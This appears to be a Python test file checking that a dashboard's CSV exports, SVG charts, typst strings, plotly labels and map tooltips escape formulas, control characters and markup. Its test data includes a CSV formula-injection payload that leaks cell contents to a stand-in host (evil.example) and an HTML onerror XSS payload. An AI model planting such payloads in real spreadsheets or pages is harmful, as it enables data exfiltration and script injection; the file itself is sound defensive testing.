"""Whatever text is stored or typed, every output stays whole and inert: one CSV writer escapes
formulas and writes a BOM; SVG, typst, plotly labels and the map tooltip get no control character;
SVG and the map tooltip (HTML) no live markup."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ElementTree

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard import figures
from dashboard.layout import csv_bytes
from metrics.catalogue import Text, metric
from report import charts
from report.content import s as typst_string
from safety.csvout import FORMULA_STARTS
from safety.csvout import csv_bytes as frame_csv
from safety.plaintext import html_text, printable

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
           "东城\x0b社区", "<img src=x onerror=alert(1)>", 'a "quoted", cell', "多行\n文本", "正常文本"]


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_one_writer_escapes_every_formula_and_keeps_the_rest():
    frame = pl.DataFrame({"=标题": HOSTILE, "数": list(range(-5, len(HOSTILE) - 5))})
    rows = read_back(frame_csv(frame))
    assert rows[0] == ["'=标题", "数"]
    assert [r[0] for r in rows[1:]] == [("'" + v if v.startswith(FORMULA_STARTS) else v) for v in HOSTILE]
    assert [int(r[1]) for r in rows[1:]] == list(range(-5, len(HOSTILE) - 5))  # numbers stay numbers


def test_a_table_download_goes_through_it():
    frame = pl.DataFrame({"who": HOSTILE, "share": [0.5] * len(HOSTILE)})
    rows = read_back(csv_bytes(frame, [Text("who", "账号"), metric("compounds.share")]))
    assert rows[0] == ["账号", "占比(%)"]
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert rows[1] == ["'" + HOSTILE[0], "50.0"]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_reads_back_as_written_but_inert(values):
    rows = read_back(frame_csv(pl.DataFrame({"v": values}, schema={"v": pl.String})))
    for written, (read,) in zip(values, rows[1:]):
        expected = "'" + written if written.startswith(FORMULA_STARTS) else written
        assert read == expected.replace("\r\n", "\n").replace("\r", "\n") or read == expected


@pytest.mark.parametrize("text", HOSTILE + ["\x00\x1f\x7f\x85\u2028\ufffe"])
def test_svg_text_is_always_well_formed(text):
    svg = charts.rates_by_place([{"place": text, "response_rate": 0.5, "resolution_rate": 0.5,
                                  "satisfaction_rate": None, "received": 3}])
    ElementTree.fromstring(svg)  # raises on a control character or live markup
    assert "<img" not in svg


def test_typst_strings_hold_no_control_character():
    literal = typst_string("东城\x0b社区\x00\n第二行\"引号\"\\")
    assert literal == '"东城 社区 \\n第二行\\"引号\\"\\\\"'


def test_printable_and_html_text():
    assert printable("a\x0bb\u2028c\x00") == "a b c "
    assert printable("a\r\nb\tc", newlines=True) == "a\nb c"
    assert html_text("<b>东城\x0b</b>") == "&lt;b&gt;东城 &lt;/b&gt;"


def test_plotly_labels_lose_control_characters_and_the_map_tooltip_shows_names_as_text():
    figure = figures.bars(pl.DataFrame({"c": ["<b>东城\x0b社区</b>"], "complaints": [1]}), "c", "complaints.complaints")
    assert list(figure.data[0].y) == ["<b>东城 社区</b>"]
    assert figure.data[0].customdata[0][0] == "<b>东城\x0b社区</b>"  # a click still names the stored value
    compounds = pl.DataFrame({
        "name": ["<img src=x onerror=alert(1)>"], "compound_id": ["C1"], "street": ["登州街道"],
        "community": ["东城\x0b社区"], "compound_type": ["老旧小区"], "households": [10], "appeals": [1],
        "complaints_per_100_households": [1.0], "survey_satisfaction_rate": [0.5], "is_key_target": [False],
        "longitude": [120.7], "latitude": [37.8]})
    deck = figures.compound_map(compounds, chosen="C1")
    (record,) = [layer for layer in deck.layers if layer.id == "compounds"][0].data
    assert (record["tip_name"], record["tip_community"]) == ("&lt;img src=x onerror=alert(1)&gt;", "东城 社区")
    # The HTML tooltip names only escaped fields; the outlines and labels (plain text) lose controls.
    assert set(re.findall(r"{(\w+)}", deck._tooltip["html"])) & {"name", "street", "community", "type"} == set()
    labels = [layer for layer in deck.layers if layer.id == "place_names"][0].data
    assert labels and all("\x0b" not in label["text"] for label in labels)


def test_markdown_text_shows_what_was_typed():
    from safety.plaintext import markdown_text

    assert markdown_text("[点此](http://evil.example) **粗** $x$\x0b") == (
        "\\[点此\\]\\(http://evil\\.example\\) \\*\\*粗\\*\\* \\$x\\$ ")
